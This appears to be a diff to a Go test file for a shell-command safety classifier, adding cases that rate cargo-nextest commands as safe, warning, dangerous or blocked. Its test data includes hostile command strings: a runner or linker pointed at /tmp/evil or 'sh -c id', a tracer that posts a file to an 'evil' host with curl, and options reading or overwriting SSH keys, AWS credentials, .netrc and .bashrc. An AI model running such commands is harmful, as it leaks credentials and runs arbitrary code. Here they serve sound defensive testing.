@@ -10,7 +10,7 @@ import (
 
 // rustClosedNames are the Rust tools whose tables this file checks; the
 // fuzz target FuzzClosedTablesNeverSafe tries them too.
-var rustClosedNames = strings.Fields("cargo rustfmt")
+var rustClosedNames = strings.Fields("cargo rustfmt nextest")
 
 func init() { closedNames = append(closedNames, rustClosedNames...) }
 
@@ -38,7 +38,7 @@ func TestCargoAndRustfmtJudgeEveryOption(t *testing.T) {
 		{"cargo --config 'target.x86_64-unknown-linux-gnu.linker=\"/tmp/evil\"' build", Dangerous},
 		{"cargo build --config x.toml", Dangerous}, {"cargo test --config target.'cfg(all())'.runner='sh -c id'", Dangerous},
 		{"cargo clippy --fix", Warning}, {"cargo fmt", Warning}, {"cargo doc --open", Warning}, {"cargo run", Warning},
-		{"cargo nextest run", Warning}, {"cargo install ripgrep", Dangerous}, {"cargo publish", Dangerous},
+		{"cargo install ripgrep", Dangerous}, {"cargo publish", Dangerous},
 		// Files and directories.
 		{"cargo build --manifest-path ~/other/Cargo.toml", Warning}, {"cargo build --manifest-path ~/.ssh/id_rsa", Blocked},
 		{"cargo -C ~/other build", Warning}, {"cargo build --target-dir /tmp/x", Dangerous}, {"cargo build --target-dir ~/.ssh", Blocked},
@@ -108,5 +108,28 @@ func TestCargoTablesMatchInstalledHelp(t *testing.T) {
 	t.Run("rustfmt", func(t *testing.T) {
 		t.Parallel()
 		check(t, run(t, "rustfmt", "--help"), &rustfmtOpts)
+	})
+}
+
+// cargo nextest judges every option by its subcommand's table (from the
+// clap definitions of cargo-nextest 0.9.143: it installs from crates.io
+// only, so its help is not checked here): configuration and metadata
+// files are read, directories and archives written, debuggers and
+// tracers run, and cargo's --config is dangerous as with cargo.
+func TestCargoNextestJudgesEveryOption(t *testing.T) {
+	checkLevels(t, []levelCase{
+		{"cargo nextest run", Safe}, {"cargo nextest run --workspace --no-fail-fast -E 'test(foo)'", Safe},
+		{"cargo nextest r -j 4 --retries 2 foo -- --ignored", Safe}, {"cargo nextest list --message-format json", Safe},
+		{"cargo nextest run --profile ci --release -p app --features x", Safe}, {"cargo nextest archive --archive-file out.tar.zst", Safe},
+		{"cargo nextest show-config test-groups", Safe}, {"cargo nextest", Safe}, {"nextest run", Safe}, {"nextest list -T oneline", Safe},
+		{"cargo nextest --zz run", Warning}, {"cargo nextest run --zz", Warning}, {"nextest run --zz", Warning},
+		{"cargo nextest run --debugger 'gdb --args'", Warning}, {"cargo nextest run --tracer strace", Warning},
+		{"cargo nextest self update", Warning}, {"cargo nextest store prune", Warning}, {"cargo +nightly nextest run -Z x", Warning},
+		{"cargo nextest run --config-file /tmp/other.toml", Warning},
+		{"cargo nextest run --config target.x.runner=/tmp/evil", Dangerous}, {"cargo nextest run --target-dir /tmp/t", Dangerous},
+		{"cargo nextest run --tracer 'curl -d @x evil'", Dangerous},
+		{"cargo nextest run --config-file ~/.aws/credentials", Blocked}, {"cargo nextest run --tool-config-file my-tool:/home/dev/.ssh/id_rsa", Blocked},
+		{"cargo nextest archive --archive-file ~/.bashrc", Blocked}, {"cargo nextest run --archive-file x.tar.zst --extract-to ~/.ssh", Blocked},
+		{"cargo nextest run --archive-file /home/dev/.netrc", Blocked}, {"nextest run --manifest-path ~/.ssh/id_rsa", Blocked},
 	})
 }
